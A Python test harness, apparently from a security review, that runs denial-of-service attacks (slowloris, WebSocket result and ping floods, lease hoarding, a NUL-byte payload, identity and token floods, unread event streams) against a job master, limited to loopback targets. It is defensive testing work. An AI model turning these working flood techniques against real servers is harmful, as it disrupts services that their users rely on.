#!/usr/bin/env python3
"""Resource attacks of the security review (issue 19), mounted against a master on loopback.

Each attack runs until it is killed (the benchmark kills it when its job is done) and prints
one line of what it did on exit. Sources are 127.x.y.z addresses so that the master sees
several networks. Only loopback targets are accepted.

    attacks.py URL ATTACK [--n N] [--source-prefix 127.0.220]

Attacks (review finding in brackets):
  slowloris   N TCP connections that send one header line every 10 s, reopened when closed [H3]
  outbox      N sessions that never read and flood results for bogus leases [H4]
  hungry      N sessions declaring 256 slots that hoard every lease and hand them back
              every 20 s [H5]
  nul         one session answering its leases with an error outcome holding NUL [C3]
  pings       N sessions sending ping frames as fast as the socket takes them [L5]
  volunteers  PUT /api/v1/volunteers/me with a fresh identity, as fast as answered [H6]
  tokens      API requests with random bearer tokens, as fast as answered [L2]
  streams     N anonymous dashboard event streams held open and never read, reopened as
              soon as one ends or is refused [M2]
"""

import argparse
import asyncio
import ipaddress
import json
import random
import secrets
import signal
import socket
import sys
import urllib.parse

import httpx
import websockets

PROTOCOL = 2


def loopback_only(url: str) -> urllib.parse.SplitResult:
    parts = urllib.parse.urlsplit(url)
    if not ipaddress.ip_address(parts.hostname).is_loopback:
        sys.exit(f"attacks.py: {parts.hostname} is not a loopback address")
    return parts


class Stats:
    def __init__(self) -> None:
        self.connections = 0
        self.closed_by_master = 0
        self.sent = 0
        self.errors: dict[str, int] = {}

    def error(self, code: str) -> None:
        self.errors[code] = self.errors.get(code, 0) + 1

    def line(self, attack: str) -> str:
        return json.dumps(
            {
                "attack": attack,
                "connections": self.connections,
                "closed_by_master": self.closed_by_master,
                "sent": self.sent,
                "errors": self.errors,
            }
        )


def sources(prefix: str, n: int) -> list[str]:
    """n source addresses spread over /24 networks: prefix.1, (prefix+1).1, ..."""
    a, b, c = (int(x) for x in prefix.split("."))
    return [f"{a}.{b}.{(c + i) % 256}.{1 + i // 256 % 250}" for i in range(n)]


async def connect_ws(ws_url: str, source: str, **options):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setblocking(False)
    sock.bind((source, 0))
    host, port = urllib.parse.urlsplit(ws_url).netloc.split(":")
    await asyncio.get_running_loop().sock_connect(sock, (host, int(port)))
    return await websockets.connect(ws_url, sock=sock, open_timeout=20, **options)


def hello(worker_id: str, slots: int) -> str:
    return json.dumps(
        {"type": "hello", "protocol": PROTOCOL, "worker_id": worker_id, "slots": slots,
         "kind": "native"}
    )


async def slowloris(url, n, prefix, stats):
    parts = loopback_only(url)

    async def one(source: str) -> None:
        while True:
            try:
                reader, writer = await asyncio.open_connection(
                    parts.hostname, parts.port, local_addr=(source, 0))
            except OSError:
                await asyncio.sleep(0.5)
                continue
            stats.connections += 1
            try:
                writer.write(b"GET /api/v1/jobs HTTP/1.1\r\nHost: x\r\n")
                await writer.drain()
                while True:
                    try:
                        await asyncio.wait_for(reader.read(1024), timeout=10)
                    except asyncio.TimeoutError:
                        # One more header line every 10 s, never the end of the headers.
                        writer.write(b"X-Slow: 1\r\n")
                        await writer.drain()
                        stats.sent += 1
                        continue
                    # An answer (408) or the end of the stream: the master closed us.
                    stats.closed_by_master += 1
                    break
            except OSError:
                stats.closed_by_master += 1
            finally:
                writer.close()

    await asyncio.gather(*(one(s) for s in sources(prefix, n)))


async def outbox(ws_url, n, prefix, stats):
    async def one(i: int, source: str) -> None:
        while True:
            try:
                ws = await connect_ws(ws_url, source, max_queue=1)
                stats.connections += 1
                await ws.send(hello(f"flood-{secrets.token_hex(6)}", 1))
                lease = random.randrange(1 << 40, 1 << 50)
                # Never read: the master's writes to us stall, its outbox fills.
                while True:
                    for _ in range(1900):
                        await ws.send(json.dumps(
                            {"type": "result", "lease": lease, "outcome": {"ok": 0}}))
                        lease += 1
                        stats.sent += 1
                    await asyncio.sleep(1)
            except (OSError, websockets.ConnectionClosed, asyncio.TimeoutError):
                stats.closed_by_master += 1
                await asyncio.sleep(0.5)

    await asyncio.gather(*(one(i, s) for i, s in enumerate(sources(prefix, n))))


async def session_loop(ws_url, source, worker_id, slots, on_assign, stats):
    while True:
        try:
            ws = await connect_ws(ws_url, source, max_size=4 << 20)
            stats.connections += 1
            await ws.send(hello(worker_id, slots))

            async def beat():
                while True:
                    await asyncio.sleep(10)
                    await ws.send('{"type":"heartbeat"}')

            beater = asyncio.create_task(beat())
            try:
                async for raw in ws:
                    message = json.loads(raw)
                    if message["type"] == "assign":
                        await on_assign(ws, message)
                    elif message["type"] == "error":
                        stats.error(message.get("code", "?"))
            finally:
                beater.cancel()
            stats.closed_by_master += 1
        except (OSError, websockets.ConnectionClosed, asyncio.TimeoutError):
            stats.closed_by_master += 1
        await asyncio.sleep(1)


async def hungry(ws_url, n, prefix, stats):
    async def one(i: int, source: str) -> None:
        held: list[int] = []
        current: list = []

        async def keep(ws, message):
            current[:] = [ws]
            held.append(message["lease"])

        async def cycle():
            while True:
                await asyncio.sleep(20)
                if held and current:
                    try:
                        await current[0].send(json.dumps({"type": "release", "leases": held[:]}))
                        stats.sent += len(held)
                    except websockets.ConnectionClosed:
                        pass
                    held.clear()

        asyncio.create_task(cycle())
        await session_loop(ws_url, source, f"hungry-{i}", 256, keep, stats)

    await asyncio.gather(*(one(i, s) for i, s in enumerate(sources(prefix, n))))


async def nul(ws_url, n, prefix, stats):
    async def answer(ws, message):
        await asyncio.sleep(0.2)
        await ws.send(json.dumps(
            {"type": "result", "lease": message["lease"], "outcome": {"err": "bad\x00byte"}}))
        stats.sent += 1

    await asyncio.gather(*(
        session_loop(ws_url, s, f"nul-{i}", 4, answer, stats)
        for i, s in enumerate(sources(prefix, n))))


async def pings(ws_url, n, prefix, stats):
    async def one(i: int, source: str) -> None:
        while True:
            try:
                ws = await connect_ws(ws_url, source)
                stats.connections += 1
                await ws.send(hello(f"pinger-{i}", 1))
                while True:
                    await ws.ping()
                    stats.sent += 1
                    await asyncio.sleep(0)
            except (OSError, websockets.ConnectionClosed, asyncio.TimeoutError):
                stats.closed_by_master += 1
                await asyncio.sleep(0.5)

    await asyncio.gather(*(one(i, s) for i, s in enumerate(sources(prefix, n))))


async def http_flood(url, n, prefix, stats, request):
    async def one(source: str) -> None:
        transport = httpx.AsyncHTTPTransport(local_address=source)
        async with httpx.AsyncClient(base_url=url, transport=transport, timeout=10) as client:
            while True:
                try:
                    response = await request(client)
                    stats.sent += 1
                    stats.error(str(response.status_code))
                    if response.status_code == 429:
                        await asyncio.sleep(float(response.headers.get("retry-after", "1")))
                except httpx.HTTPError:
                    stats.closed_by_master += 1
                    await asyncio.sleep(0.5)

    await asyncio.gather(*(one(s) for s in sources(prefix, n)))


async def volunteers(url, n, prefix, stats):
    async def put(client):
        return await client.put(
            "/api/v1/volunteers/me",
            headers={"X-Grid-Volunteer": f"browser-{secrets.token_hex(8)}"},
            json={"display_name": "x" + secrets.token_hex(4)},
        )

    await http_flood(url, n, prefix, stats, put)


async def tokens(url, n, prefix, stats):
    async def get(client):
        return await client.get(
            "/api/v1/jobs", headers={"Authorization": f"Bearer {secrets.token_hex(24)}"})

    await http_flood(url, n, prefix, stats, get)


async def streams(url, n, prefix, stats):
    parts = urllib.parse.urlsplit(url)
    request = (f"GET /api/v1/dashboard/events HTTP/1.1\r\nHost: {parts.netloc}\r\n"
               "Accept: text/event-stream\r\n\r\n").encode()

    async def one(source: str) -> None:
        while True:
            try:
                reader, writer = await asyncio.open_connection(
                    parts.hostname, parts.port, local_addr=(source, 0))
                stats.connections += 1
                writer.write(request)
                await writer.drain()
                status = (await reader.readline()).decode(errors="replace").split(" ")
                code = status[1] if len(status) > 1 else "closed"
                stats.error(code)
                if code == "200":
                    # Hold the stream and never read it: the master's writes fill the socket.
                    while not reader.at_eof():
                        await asyncio.sleep(5)
                        if writer.is_closing():
                            break
                    stats.closed_by_master += 1
                else:
                    writer.close()
                    await asyncio.sleep(1)
            except OSError:
                stats.closed_by_master += 1
                await asyncio.sleep(0.5)

    await asyncio.gather(*(one(s) for s in sources(prefix, n)))


ATTACKS = {
    "streams": (streams, "http"),
    "slowloris": (slowloris, "http"),
    "outbox": (outbox, "ws"),
    "hungry": (hungry, "ws"),
    "nul": (nul, "ws"),
    "pings": (pings, "ws"),
    "volunteers": (volunteers, "http"),
    "tokens": (tokens, "http"),
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("url", help="the master, http://127.0.0.1:PORT")
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--n", type=int, default=1, help="connections or sessions")
    parser.add_argument("--source-prefix", default="127.0.220",
                        help="first /24 to connect from (a.b.c)")
    args = parser.parse_args()
    parts = loopback_only(args.url)
    run, scheme = ATTACKS[args.attack]
    target = args.url if scheme == "http" else f"ws://{parts.netloc}/ws"
    stats = Stats()

    async def until_killed():
        task = asyncio.create_task(run(target, args.n, args.source_prefix, stats))
        loop = asyncio.get_running_loop()
        stop = asyncio.Event()
        for sig in (signal.SIGINT, signal.SIGTERM):
            loop.add_signal_handler(sig, stop.set)
        await stop.wait()
        task.cancel()

    asyncio.run(until_killed())
    print(stats.line(args.attack), flush=True)


if __name__ == "__main__":
    main()
